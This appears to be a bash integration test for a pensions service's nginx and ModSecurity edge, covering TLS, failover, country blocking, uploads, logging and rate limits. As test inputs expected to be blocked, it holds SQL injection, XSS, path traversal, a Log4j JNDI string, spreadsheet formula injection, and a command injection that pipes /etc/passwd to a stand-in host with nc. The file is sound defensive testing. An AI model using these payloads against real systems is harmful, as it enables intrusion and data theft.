#!/usr/bin/env bash
# Tests the edge for real: starts a service and nginx with a throwaway certificate on free ports of 127.0.0.1, sends attacks and normal
# work through it, and stops both. Installs the Debian packages if they are missing (then run it as root). Takes one to three minutes.
set -euo pipefail

here=$(cd "$(dirname "$0")" && pwd)
project=$(cd "$here/../.." && pwd)
readonly NAME=pensions.example.ie
folder=$(mktemp -d /tmp/edge-test.XXXXXX)
service=''
failures=0
finish() {
  [[ ! -e $folder/nginx/nginx.pid ]] || nginx -c "$folder/nginx/nginx.conf" -s quit 2>/dev/null || true
  if [[ -n $service ]]; then
    kill "$service" 2>/dev/null || true
    wait "$service" 2>/dev/null || true
  fi
  # nginx ends when its last connection has ended.
  for _ in {1..50}; do [[ -e $folder/nginx/nginx.pid ]] || break; sleep 0.1; done
  [[ -n ${KEEP:-} ]] && echo "Logs are in $folder" || rm -rf "$folder"
}
trap finish EXIT

packages() {
  local wanted=(nginx-light libnginx-mod-http-modsecurity modsecurity-crs curl openssl) missing=() name had_policy=yes
  command -v nginx >/dev/null && wanted=("${wanted[@]:1}")
  for name in "${wanted[@]}"; do
    dpkg-query --show --showformat '${Status}' "$name" 2>/dev/null | grep -q ' installed$' || missing+=("$name")
  done
  ((${#missing[@]} > 0)) || return 0
  # The packages must not start a server on port 80.
  if [[ ! -e /usr/sbin/policy-rc.d ]]; then
    had_policy=''
    printf '#!/bin/sh\nexit 101\n' >/usr/sbin/policy-rc.d
    chmod +x /usr/sbin/policy-rc.d
  fi
  apt-get --quiet=2 update
  DEBIAN_FRONTEND=noninteractive apt-get --quiet=2 --yes install --no-install-recommends "${missing[@]}" >/dev/null
  [[ -n $had_policy ]] || rm /usr/sbin/policy-rc.d
}

# Below the ports of outgoing connections, which could take it before the program listens.
free_port() {
  "$node" -e "const find = () => { const port = 12000 + Math.floor(Math.random() * 20000), s = require('node:net').createServer().once('error', find).listen(port, '127.0.0.1', () => { console.log(port); s.close() }) }; find()"
}

expect_code() { # NAME EXPECTED ACTUAL
  if [[ $3 == "$2" ]]; then
    echo "ok      $1: $3"
  else
    echo "FAILED  $1: $3 instead of $2"
    failures=$((failures + 1))
  fi
}

packages
node=$project/node_modules/.bin/node
service_port=$(free_port)
dead_port=$(free_port)
http_port=$(free_port)
https_port=$(free_port)
password=$(head -c 18 /dev/urandom | od -An -tx1 | tr -d ' \n')"' OR 1=1 --<x>"

openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -keyout "$folder/tls.key" \
  -out "$folder/tls.crt" -subj "/CN=$NAME" -addext "subjectAltName=DNS:$NAME" 2>/dev/null

# A service with the demo firm. Its own limits are out of the way: those of the edge are tested.
env -i PATH="$PATH" NODE_ENV=development PORT="$service_port" HOST=127.0.0.1 DATA_DIR="$folder/data" RATE_LIMIT_SCALE=1000 \
  APP_URL="https://$NAME" DEV_ACCOUNTS_PASSWORD="$password" "$node" "$project/src/server/main.ts" >"$folder/service.log" 2>&1 &
service=$!

# One of two instances is away.
export OUT=$folder/nginx SERVER_NAME=$NAME UPSTREAMS="127.0.0.1:$dead_port 127.0.0.1:$service_port" TLS_CERT=$folder/tls.crt TLS_KEY=$folder/tls.key
export HTTP_PORT=127.0.0.1:$http_port HTTPS_PORT=127.0.0.1:$https_port ACCESS_LOG=$folder/access.log ERROR_LOG=$folder/error.log
export COUNTRY_RULES=$folder/countries.conf
printf 'geo $edge_country { default allow; 127.0.0.9 block; 127.0.0.8 challenge; }\n' >"$COUNTRY_RULES"
"$here/render.sh"
# Workers of a master that root started need the folders.
((EUID != 0)) || sed -i '1i user root;' "$OUT/nginx.conf"
nginx -c "$OUT/nginx.conf"

base=https://$NAME:$https_port
readonly AGENT='Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36'
# Each test can have an address of its own, so that the limits of one do not count for another.
ask() { # ADDRESS [CURL OPTION …]
  local address=$1
  shift
  curl --silent --max-time 30 --cacert "$folder/tls.crt" --resolve "$NAME:$https_port:127.0.0.1" --interface "$address" \
    --user-agent "$AGENT" --cookie "$folder/jar" --cookie-jar "$folder/jar" "$@"
}
code() { ask "$@" --output "$folder/body" --write-out '%{http_code}' || true; }
field() { "$node" -e "process.stdout.write(String(JSON.parse(require('node:fs').readFileSync('$folder/body', 'utf8'))$1))"; }

for _ in {1..300}; do
  [[ $(curl --silent --output /dev/null --write-out '%{http_code}' "http://127.0.0.1:$service_port/api/health/ready" || true) == 200 ]] && break
  kill -0 "$service" || { tail "$folder/service.log"; exit 1; }
  sleep 0.2
done

echo '--- Transport'
expect_code 'ready through the edge' 200 "$(code 127.0.0.1 "$base/api/health/ready")"
expect_code 'TLS 1.3' 0 "$(ask 127.0.0.1 --tlsv1.3 --output /dev/null "$base/" && echo 0 || echo $?)"
expect_code 'TLS 1.2 refused (curl code 35)' 35 "$(ask 127.0.0.1 --tls-max 1.2 --output /dev/null "$base/" && echo 0 || echo $?)"
expect_code 'plain HTTP redirected' "301 https://$NAME/schemes?q=1" "$(curl --silent --output /dev/null --write-out '%{http_code} %{redirect_url}' \
  --header "Host: $NAME" "http://127.0.0.1:$http_port/schemes?q=1")"
expect_code 'another host name gets no answer' 000 "$(curl --silent --insecure --output /dev/null --write-out '%{http_code}' "https://127.0.0.1:$https_port/" || true)"

echo '--- Attacks'
attack() { expect_code "$1" 403 "$(code 127.0.0.2 "${@:2}")"; }
attack 'SQL injection in a query' --get --data-urlencode "q=1' OR '1'='1' UNION SELECT email FROM users--" "$base/api/schemes"
attack 'SQL injection in JSON' --header 'Content-Type: application/json' --data "{\"name\":\"x' UNION SELECT email, password FROM users-- -\"}" "$base/api/schemes"
attack 'script in a query' --get --data-urlencode 'q=<script>alert(document.cookie)</script>' "$base/api/schemes"
attack 'script in JSON' --header 'Content-Type: application/json' --data '{"name":"<img src=x onerror=alert(1)>"}' "$base/api/schemes"
attack 'path traversal in a query' --get --data-urlencode 'file=../../../../etc/passwd' "$base/api/documents"
expect_code 'path traversal in the path, refused by nginx' 400 "$(code 127.0.0.2 --path-as-is "$base/api/documents/..%2f..%2f..%2fetc%2fpasswd")"
attack 'command injection' --get --data-urlencode 'q=;cat /etc/passwd|nc 192.0.2.1 80' "$base/api/schemes"
attack 'expression of Log4j' --header 'X-Api-Version: ${jndi:ldap://192.0.2.1/a}' "$base/api/schemes"
attack 'user agent of a scanner' --user-agent 'sqlmap/1.7' "$base/"
attack 'no user agent' --user-agent '' "$base/"
attack 'user agent of a crawler' --user-agent 'Mozilla/5.0 (compatible; GPTBot/1.2)' "$base/"
expect_code 'TRACE, refused by nginx' 405 "$(code 127.0.0.2 --request TRACE "$base/")"

echo '--- Instances'
away=0
for _ in {1..8}; do
  [[ $(code 127.0.0.10 "$base/api/health/live") == 200 ]] || away=$((away + 1))
  # A POST without a session reaches the service, which refuses it.
  [[ $(code 127.0.0.10 --request POST "$base/api/schemes") == 401 ]] || away=$((away + 1))
done
expect_code 'requests that fail while one of two instances is away' 0 "$away"

echo '--- Countries'
expect_code 'blocked country' 403 "$(code 127.0.0.9 "$base/")"
expect_code 'challenged country' 403 "$(code 127.0.0.8 "$base/")"
expect_code 'challenged country, challenge passed' 200 "$(code 127.0.0.8 --header 'X-Edge-Challenge: passed' "$base/")"

echo '--- Normal work'
rm -f "$folder/jar"
expect_code 'page' 200 "$(code 127.0.0.3 "$base/signin")"
expect_code 'CSRF token' 200 "$(code 127.0.0.3 "$base/api/auth/csrf")"
token=$(field .csrfToken)
sign_in=$(code 127.0.0.3 --header 'Accept: application/json' --data-urlencode "csrfToken=$token" \
  --data-urlencode email=brokeradmin@dev.local --data-urlencode "password=$password" "$base/api/auth/signin")
[[ $sign_in == 302 || $sign_in == 303 ]] && sign_in=200
expect_code 'sign-in with a password that looks like an attack' 200 "$sign_in"
code 127.0.0.3 "$base/api/auth/csrf" >/dev/null
token=$(field .csrfToken)
expect_code 'list of schemes' 200 "$(code 127.0.0.3 "$base/api/schemes")"
scheme=$(field '.data[0].id')

"$node" -e "
const text = 'Section 64AL(1): “the trustees shall select from the members’ nominees (and drop any who resign); where 5 or more = a quorum, they must not ' +
  'delete from or update the register, or insert into it…” Cf. O\'Brien v. Trustees & Ors [2024] IEHC 12 — cat. A; see http://www.irishstatutebook.ie/eli/1990/act/25 (as amended) <no later than 30 days>.'
process.stdout.write(JSON.stringify({ entityType: 'scheme', entityId: '$scheme', text }))" >"$folder/comment.json"
expect_code 'JSON with a legal text' 201 "$(code 127.0.0.3 --header 'Content-Type: application/json' --header "X-CSRF-Token: $token" --data-binary "@$folder/comment.json" "$base/api/comments")"
expect_code 'legal text unchanged' same "$("$node" -e "
const read = (name) => JSON.parse(require('node:fs').readFileSync('$folder/' + name, 'utf8'))
process.stdout.write(read('body').text === read('comment.json').text ? 'same' : 'changed')")"

# A valid PDF with random bytes, and an attack as its text: 8 MB.
"$node" -e "
const { randomBytes } = require('node:crypto')
const PDFDocument = require('pdfkit')
const document = new PDFDocument({ compress: false })
document.pipe(require('node:fs').createWriteStream('$folder/minutes.pdf'))
document.text(\"Minutes <script>alert(1)</script> ' OR 1=1 -- ../../etc/passwd\")
for (let page = 0; page < 8; page++) {
  document.addPage()
  document.text(randomBytes(512 * 1024).toString('hex'), { height: 600 })
}
document.end()"
upload_pdf() {
  code 127.0.0.3 --header "X-CSRF-Token: $token" --form "file=@$folder/minutes.pdf;type=application/pdf;filename=Minutes O'Brien; select.pdf" \
    --form "schemeId=$scheme" --form 'kind=TRUSTEE_MINUTES' --form 'title=Minutes of the trustees' "$base/api/documents"
}
uploaded=$(upload_pdf)
expect_code 'upload of a PDF of 8 MB' 201 "$uploaded"
[[ $uploaded == 201 ]] || { head -c 600 "$folder/body"; echo; }
if [[ $uploaded == 201 ]]; then
  document=$(field .id)
  ask 127.0.0.3 --output "$folder/returned.pdf" "$base/api/documents/$document/content" || true
  expect_code 'PDF unchanged' "$(sha256sum <"$folder/minutes.pdf")" "$(sha256sum <"$folder/returned.pdf")"
fi

printf '{"name":"Payroll","url":"https://hooks.example.com/in?source=pensions&id=7","eventTypes":["breach.created"]}' >"$folder/webhook.json"
webhook=$(code 127.0.0.3 --header 'Content-Type: application/json' --header "X-CSRF-Token: $token" --data-binary "@$folder/webhook.json" "$base/api/webhooks")
# 201, or 422 where the host name cannot be looked up: both are of the service.
expect_code 'address of a webhook reaches the service' yes "$( [[ $webhook == 201 || $webhook == 422 ]] && echo yes || echo "$webhook")"

printf 'Works No,Pay Date,EE,ER\nW1;DROP TABLE x,28/11/2026,200.00,280.00\n=cmd|x!A1,28/11/2026,1.00,1.00\n' >"$folder/payroll.csv"
csv=$(code 127.0.0.3 --header "X-CSRF-Token: $token" --form "file=@$folder/payroll.csv;type=text/csv" --form "schemeId=$scheme" \
  --form payrollMonth=2026-11 --form dryRun=true "$base/api/contributions")
# The service reads the file: its own refusal names rows; one of the edge would be HTML.
expect_code 'upload of a CSV reaches the service' JSON "$("$node" -e "try { JSON.parse(require('node:fs').readFileSync('$folder/body', 'utf8')); console.log('JSON') } catch { console.log('HTML $csv') }")"
head -c 31500000 /dev/zero >"$folder/large.pdf"
expect_code 'upload above 30 MB' 413 "$(code 127.0.0.3 --header "X-CSRF-Token: $token" --header 'Expect:' --form "file=@$folder/large.pdf" "$base/api/documents")"

echo '--- Logs'
expect_code 'no password in the logs' 0 "$(grep --count --fixed-strings --no-filename -e "${password:0:36}" "$folder/access.log" "$folder/error.log" | paste -sd+ | bc)"

echo '--- Limits'
# 10 a minute and 10 at once on /api/auth/*; 100 and 100 on /api/*.
count_429() { # ADDRESS COUNT PATH
  local i count=0
  for ((i = 0; i < $2; i++)); do printf 'url = "%s"\noutput = "/dev/null"\n' "$base$3"; done >"$folder/urls"
  count=$(ask "$1" --config "$folder/urls" --write-out '%{http_code}\n' | grep --count '^429$' || true)
  echo "$count"
}
auth=$(count_429 127.0.0.4 30 /api/auth/csrf)
expect_code '30 requests to /api/auth/*: refused' yes "$( ((auth >= 17 && auth <= 20)) && echo yes || echo "$auth")"
api=$(count_429 127.0.0.5 230 /api/openapi.json)
expect_code '230 requests to /api/*: refused' yes "$( ((api >= 10 && api <= 130)) && echo yes || echo "$api")"
expect_code 'health probes are not limited' 0 "$(count_429 127.0.0.6 150 /api/health/live)"
expect_code 'another address is not limited' 200 "$(code 127.0.0.7 "$base/api/auth/csrf")"

echo
if ((failures > 0)); then
  echo "$failures failed"
  exit 1
fi
echo 'All passed'
